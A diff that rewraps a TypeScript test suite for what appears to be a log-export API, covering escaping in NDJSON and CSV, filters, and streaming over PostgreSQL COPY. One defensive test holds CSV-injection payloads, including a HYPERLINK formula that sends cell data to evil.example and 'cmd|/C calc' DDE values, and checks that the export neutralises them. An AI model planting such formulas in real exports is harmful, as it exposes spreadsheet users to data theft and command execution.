@@ -22,29 +22,63 @@ let close: () => Promise<unknown>;
 const TENANT = `tenant 'odd' \\ ${randomUUID()}`;
 const start = Date.now() - 3_600_000;
 const at = (second: number) => new Date(start + second * 1000).toISOString();
-const NULLABLE_TEXT = ENTRY_FIELDS.filter(({ field, kind }) => kind === 'text' && !['id', 'level', 'tenantId', 'service', 'message', 'environment'].includes(field));
+const NULLABLE_TEXT = ENTRY_FIELDS.filter(
+  ({ field, kind }) =>
+    kind === 'text' && !['id', 'level', 'tenantId', 'service', 'message', 'environment'].includes(field),
+);
 
 // Every character that a COPY text, a JSON string or a CSV field has to escape, and one row
 // large enough, in characters of several bytes, to be cut across chunks.
 const entries: StoredLogEntry[] = [
-  makeEntry({ tenantId: TENANT, timestamp: at(1), message: 'tab\there, newline\nthere, CR\r, CRLF\r\n, backslash \\ and a literal \\n, a lone " quote, a comma' }),
+  makeEntry({
+    tenantId: TENANT,
+    timestamp: at(1),
+    message: 'tab\there, newline\nthere, CR\r, CRLF\r\n, backslash \\ and a literal \\n, a lone " quote, a comma',
+  }),
   makeEntry({ tenantId: TENANT, timestamp: at(2), message: '\\N', action: '\\', file: '"', function: ',' }),
-  makeEntry({ tenantId: TENANT, timestamp: at(3), message: 'controls \u0001\u0007\b\f\u000b\u001b\u001f and DEL \u007f' }),
-  makeEntry({ tenantId: TENANT, timestamp: at(4), message: 'café ✓ 😀 עברית \u2028 \u2029', level: 'warn', errorSignature: 'sig-é' }),
+  makeEntry({
+    tenantId: TENANT,
+    timestamp: at(3),
+    message: 'controls \u0001\u0007\b\f\u000b\u001b\u001f and DEL \u007f',
+  }),
+  makeEntry({
+    tenantId: TENANT,
+    timestamp: at(4),
+    message: 'café ✓ 😀 עברית \u2028 \u2029',
+    level: 'warn',
+    errorSignature: 'sig-é',
+  }),
   makeEntry({
     tenantId: TENANT,
     timestamp: at(5),
     level: 'error',
     message: 'payment failed',
-    data: { path: 'C:\\temp\\new', nested: { quote: '"', lines: 'a\nb\r\nc', tab: '\t', emoji: '😀' }, list: [1, 2.5, -3, true, null, 1e21], empty: {} },
+    data: {
+      path: 'C:\\temp\\new',
+      nested: { quote: '"', lines: 'a\nb\r\nc', tab: '\t', emoji: '😀' },
+      list: [1, 2.5, -3, true, null, 1e21],
+      empty: {},
+    },
     errorType: 'ProviderError',
     errorCode: 'E_502',
     errorStack: 'ProviderError: bad gateway\n    at capture (src/pay.ts:10:5)\n    at "quoted" \\ frame',
     errorSignature: 'sig-502',
     messageTemplate: 'payment failed',
   }),
-  makeEntry({ tenantId: TENANT, timestamp: at(6), line: null, data: null, ...Object.fromEntries(NULLABLE_TEXT.map(({ field }) => [field, null])) }),
-  makeEntry({ tenantId: TENANT, timestamp: at(7), line: 0, data: {}, ...Object.fromEntries(NULLABLE_TEXT.map(({ field }) => [field, ''])) }),
+  makeEntry({
+    tenantId: TENANT,
+    timestamp: at(6),
+    line: null,
+    data: null,
+    ...Object.fromEntries(NULLABLE_TEXT.map(({ field }) => [field, null])),
+  }),
+  makeEntry({
+    tenantId: TENANT,
+    timestamp: at(7),
+    line: 0,
+    data: {},
+    ...Object.fromEntries(NULLABLE_TEXT.map(({ field }) => [field, ''])),
+  }),
   makeEntry({ tenantId: TENANT, timestamp: at(8), message: 'é😀\t"\\'.repeat(40_000) }),
 ];
 
@@ -74,7 +108,10 @@ describe('export content', () => {
     const { status, text } = await get(`/api/platform/logs/export?format=ndjson&${ofTenant}`);
     expect(status).toBe(200);
     expect(text.endsWith('}\n')).toBe(true);
-    const lines = text.slice(0, -1).split('\n').map((line) => JSON.parse(line));
+    const lines = text
+      .slice(0, -1)
+      .split('\n')
+      .map((line) => JSON.parse(line));
     expect(lines).toEqual(expected);
     lines.forEach((line, i) => expect(Object.keys(line)).toEqual(Object.keys(expected[i])));
     expect(lines.map((line) => line.message)).toEqual([...entries].reverse().map((entry) => entry.message));
@@ -99,7 +136,14 @@ describe('export content', () => {
   test('CSV cells a spreadsheet would run as a formula start with a quote; NDJSON keeps them as stored', async () => {
     const tenant = `formulas-${randomUUID()}`;
     // one value for each of OWASP's CSV injection starters: =, +, -, @, tab and carriage return
-    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd|"/C calc"!A0', '\t=1+1', '\r=1+1'];
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)*cmd|"/C calc"!A0',
+      '\t=1+1',
+      '\r=1+1',
+    ];
     const stored = [
       ...formulas.flatMap((value, i) => [
         makeEntry({ tenantId: tenant, timestamp: at(20 + 2 * i), requestId: value }),
@@ -114,20 +158,38 @@ describe('export content', () => {
     const { text } = await get(`/api/platform/logs/export?format=csv&tenantId=${tenant}`);
     const [header, ...records] = parseCsv(text);
     const [requestId, message] = [header.indexOf('requestId'), header.indexOf('message')];
-    expect(records.map((record) => [record[requestId], record[message]])).toEqual(expected.map((entry) => [cell(entry.requestId), cell(entry.message)]));
+    expect(records.map((record) => [record[requestId], record[message]])).toEqual(
+      expected.map((entry) => [cell(entry.requestId), cell(entry.message)]),
+    );
     expect(records.flat().filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
 
     const ndjson = await get(`/api/platform/logs/export?format=ndjson&tenantId=${tenant}`);
-    expect(ndjson.text.trimEnd().split('\n').map((line) => JSON.parse(line))).toEqual(expected);
+    expect(
+      ndjson.text
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line)),
+    ).toEqual(expected);
   });
 
   test('filters reach the export as they reach the query: levels, services, words, tenant', async () => {
-    const queries = ['level=warn,error', 'service=storefront,admin&level=error', 'q=payment', `q=${encodeURIComponent('"payment failed" -gateway')}`, `errorSignature=${encodeURIComponent('sig-é')}`];
+    const queries = [
+      'level=warn,error',
+      'service=storefront,admin&level=error',
+      'q=payment',
+      `q=${encodeURIComponent('"payment failed" -gateway')}`,
+      `errorSignature=${encodeURIComponent('sig-é')}`,
+    ];
     for (const query of queries) {
       const expected = (await apiEntries(`${ofTenant}&${query}`)).map((entry) => entry.id);
       expect(expected.length).toBeGreaterThan(0);
       const { text } = await get(`/api/platform/logs/export?${ofTenant}&${query}`);
-      expect(text.trimEnd().split('\n').map((line) => JSON.parse(line).id)).toEqual(expected);
+      expect(
+        text
+          .trimEnd()
+          .split('\n')
+          .map((line) => JSON.parse(line).id),
+      ).toEqual(expected);
     }
   });
 
@@ -148,7 +210,8 @@ describe('export content', () => {
     for (const size of [1, 7, 4096]) {
       const read = copyTextReader();
       const rows = [];
-      for (let offset = 0; offset < bytes.length; offset += size) rows.push(...read(bytes.subarray(offset, offset + size)));
+      for (let offset = 0; offset < bytes.length; offset += size)
+        rows.push(...read(bytes.subarray(offset, offset + size)));
       expect(rows).toEqual(whole);
     }
   });
@@ -199,7 +262,10 @@ describe('export stream', () => {
   const checkedOut = () => stores.pool.totalCount - stores.pool.idleCount;
 
   test('a client that stops reading holds PostgreSQL back; when it leaves, the COPY ends and the connection is free', async () => {
-    const request = http.get(`http://127.0.0.1:${port}/api/platform/logs/export?tenantId=${BIG_TENANT}`, bearer(PLATFORM_KEY));
+    const request = http.get(
+      `http://127.0.0.1:${port}/api/platform/logs/export?tenantId=${BIG_TENANT}`,
+      bearer(PLATFORM_KEY),
+    );
     const [response] = (await once(request, 'response')) as [http.IncomingMessage];
     expect(response.statusCode).toBe(200);
     response.once('data', () => response.pause());
@@ -214,7 +280,10 @@ describe('export stream', () => {
     expect(checkedOut()).toBe(1);
 
     request.destroy();
-    await until(async () => ((await exportBackends()).some((row) => row.pid === backend.pid) ? undefined : true), 'the COPY has ended');
+    await until(
+      async () => ((await exportBackends()).some((row) => row.pid === backend.pid) ? undefined : true),
+      'the COPY has ended',
+    );
     await until(async () => (checkedOut() === 0 ? true : undefined), 'the connection is back in the pool');
 
     const { status, text } = await get(`/api/platform/logs/export?tenantId=${BIG_TENANT}&limit=3`);
@@ -223,7 +292,10 @@ describe('export stream', () => {
   });
 
   test('a whole export ends with every row and gives its connection back', async () => {
-    const response = await fetch(`http://127.0.0.1:${port}/api/platform/logs/export?format=csv&tenantId=${BIG_TENANT}`, bearer(PLATFORM_KEY));
+    const response = await fetch(
+      `http://127.0.0.1:${port}/api/platform/logs/export?format=csv&tenantId=${BIG_TENANT}`,
+      bearer(PLATFORM_KEY),
+    );
     let lines = 0;
     for await (const chunk of response.body!) {
       const bytes = Buffer.from(chunk);
